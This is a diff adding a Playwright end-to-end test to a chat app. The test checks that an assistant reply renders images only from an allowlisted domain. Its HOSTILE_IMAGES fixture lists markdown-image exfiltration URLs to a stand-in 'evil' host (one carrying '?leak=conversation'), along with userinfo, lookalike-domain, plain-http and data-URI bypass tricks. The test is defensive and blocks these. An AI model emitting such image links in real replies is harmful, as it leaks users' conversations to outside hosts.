@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import re
 import time
 import uuid
@@ -96,6 +97,53 @@ def test_raw_html_in_a_reply_is_not_executed(page: Page, app_url, script, consol
     expect(answer).to_contain_text("<b>not bold</b>")
     assert answer.locator("img, b").count() == 0
     assert page.evaluate("window.__pwned") is None
+
+
+# SKOPX_IMAGE_DOMAINS of the e2e app (tests/e2e/conftest.py); the browser's requests to it are answered
+# by a route below, so nothing leaves the machine.
+ALLOWED_IMAGE = "https://images.skopx.test/chart.png"
+PIXEL_PNG = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+)
+HOSTILE_IMAGES = {
+    "tracker": "https://evil.skopx.test/pixel.png?leak=conversation",
+    "userinfo": "https://images.skopx.test@evil.skopx.test/x.png",
+    "lookalike": "https://images.skopx.test.evil.skopx.test/x.png",
+    "plain http": "http://images.skopx.test/chart.png",
+    "own origin": "/favicon.ico?from-a-reply",
+    "inline data": "data:image/png;base64,iVBORw0KGgo=",
+}
+
+
+def test_a_reply_shows_only_allowlisted_images(page: Page, app_url, script, console) -> None:
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
+    page.route(
+        "https://images.skopx.test/**", lambda route: route.fulfill(body=PIXEL_PNG, content_type="image/png")
+    )
+    sign_in(page, app_url, "member@acme.test")
+    new_conversation(page, app_url)
+    images = "\n\n".join(f"![{alt}]({url})" for alt, url in HOSTILE_IMAGES.items())
+    script.add_replies(f"A chart: ![quarterly chart]({ALLOWED_IMAGE})\n\n{images}\n\nThe end.")
+    send(page, "Show me the chart")
+    for reloaded in (False, True):  # rendered from the live turn, then from the stored history
+        if reloaded:
+            page.reload()
+        answer = page.get_by_test_id("assistant-message")
+        expect(answer).to_contain_text("The end.", timeout=20_000)
+        chart = answer.get_by_role("img", name="quarterly chart")
+        expect(chart).to_have_attribute("src", ALLOWED_IMAGE)
+        expect(chart).to_have_js_property("naturalWidth", 1)
+        blocked = answer.locator(".skopx-image-blocked")
+        expect(blocked).to_have_text([f"Image not shown: {alt}" for alt in HOSTILE_IMAGES])
+        assert answer.locator("img").count() == 1
+        page.wait_for_load_state("networkidle")
+    screenshot(page, "chat-images")
+    assert ALLOWED_IMAGE in requested
+    markers = ("evil.skopx.test", "from-a-reply", "http://images.skopx.test")
+    leaked = [url for url in requested if any(marker in url for marker in markers)]
+    assert leaked == []
+    assert console.csp_violations == []
 
 
 def test_stop_keeps_the_partial_reply_marked_stopped(page: Page, app_url, script, console) -> None:
